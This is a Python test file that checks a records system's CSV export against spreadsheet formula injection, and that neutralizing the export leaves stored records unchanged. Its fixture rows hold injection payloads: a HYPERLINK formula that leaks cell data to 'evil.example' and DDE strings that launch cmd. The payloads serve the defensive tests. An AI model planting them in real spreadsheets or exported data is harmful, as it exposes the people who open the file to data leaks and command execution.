"""The CSV export, as owner and partner download it, has no live cell whichever separator a
spreadsheet reads, and neutralizing touches the file only, not the records. The rule (`live`)
and the cell function are tested without services in tests/fast/test_export_formulas.py."""

import csv
import io
import json

import pytest

from intel.import_writing import import_file
from intel.models import Record
from sharing import releases
from sharing.models import Agreement
from tests.fast.test_export_formulas import live
from tests.sharing_helpers import in_force, staff

# Values an importing agency states, one per free-text column the export carries: in the
# record's own columns (external_ref, summary), in the JSON of its mentions (entity names
# and addresses from the entities' properties) and of its details.
ROWS = [
    {
        "external_ref": "=2+5",
        "category": "shipment",
        "occurred_on": "2026-03-02",
        "summary": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "importer_name": "@SUM(1+1)*cmd|' /C calc'!A0",
        "importer_country": "NL",
        "importer_address": "+cmd|' /C calc'!A0",
        "vessel_imo": "9074729",
        "vessel_name": "-1+1",
        "port_of_discharge": "NLRTM",
    },
    {
        "external_ref": "SZ-9",
        "category": "seizure",
        "occurred_on": "2026-03-03",
        "summary": "Cocaine; =1+1; found\tinside\n@SUM(2)",
        "goods_description": "=cmd|' /C calc'!A0",
        "quantity": "-5",
        "unit": "kg",
    },
    {
        "external_ref": "SHP-SAFE",
        "category": "shipment",
        "occurred_on": "2026-03-04",
        "summary": "-5",
        "importer_name": "ACME Trading Ltd.",
        "importer_country": "NL",
    },
]


@pytest.fixture
def exported(tmp_path, db):
    cus, pol = staff("cus"), staff("pol", kind="police")
    columns = sorted({column for row in ROWS for column in row})
    path = tmp_path / "payloads.csv"
    with path.open("w", newline="") as file:
        writer = csv.DictWriter(file, columns)
        writer.writeheader()
        writer.writerows(ROWS)
    import_file(path, cus.agency)
    for record in Record.objects.filter(owner=cus.agency):
        releases.set_releasability(record, cus.analyst, "covering")
    in_force((cus, True, False), (pol, False, True))
    texts = {}
    for name, who in (("owner", cus), ("partner", pol)):
        response = who.client(purpose="investigation").get("/api/records/export/")
        assert response.status_code == 200
        texts[name] = b"".join(response.streaming_content).decode()
    return texts


def test_no_cell_of_the_export_is_live_whichever_separator_a_spreadsheet_reads(exported):
    for who, text in exported.items():
        for delimiter in (",", ";", "\t"):
            cells = [
                cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row
            ]
            if delimiter == ",":
                assert len(cells) == (len(ROWS) + 1) * len(next(csv.reader(io.StringIO(text))))
            assert [cell for cell in cells if live(cell)] == [], (who, delimiter)


def test_dangerous_cells_are_neutralized_and_the_rest_unchanged(exported):
    reference = Agreement.objects.get().reference
    for who, text in exported.items():
        rows = {row["summary"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}
        assert len(rows) == 3, who
        first = rows["'" + ROWS[0]["summary"]]
        assert first["external_ref"] == "'=2+5"
        assert rows["-5"]["external_ref"] == "SHP-SAFE"
        seizure = next(row for row in rows.values() if row["external_ref"] == "SZ-9")
        assert seizure["summary"] != ROWS[1]["summary"]
        assert seizure["summary"].replace("'", "") == ROWS[1]["summary"].replace("'", "")
        # The JSON columns decode to exactly what the agency stated.
        properties = [mention["properties"] for mention in json.loads(first["mentions"])]
        stated = {value for props in properties for value in props.values()}
        assert {ROWS[0]["importer_name"], ROWS[0]["vessel_name"]} <= stated, stated
        assert any(ROWS[0]["importer_address"] in value for value in stated), stated
        details = json.loads(seizure["details"])
        assert details["goods_description"] == ROWS[1]["goods_description"]
        assert details["quantity"] in ("-5", -5)
        # The partner's copy names the agreement by its reference, never by its key.
        assert first["shared_under"] == ("" if who == "owner" else f"agreement {reference}")


def test_the_records_themselves_keep_what_was_stated(exported):
    """Neutralizing is for the file only: the database and the API keep the values."""
    record = Record.objects.get(external_ref="=2+5")
    assert record.summary == ROWS[0]["summary"]
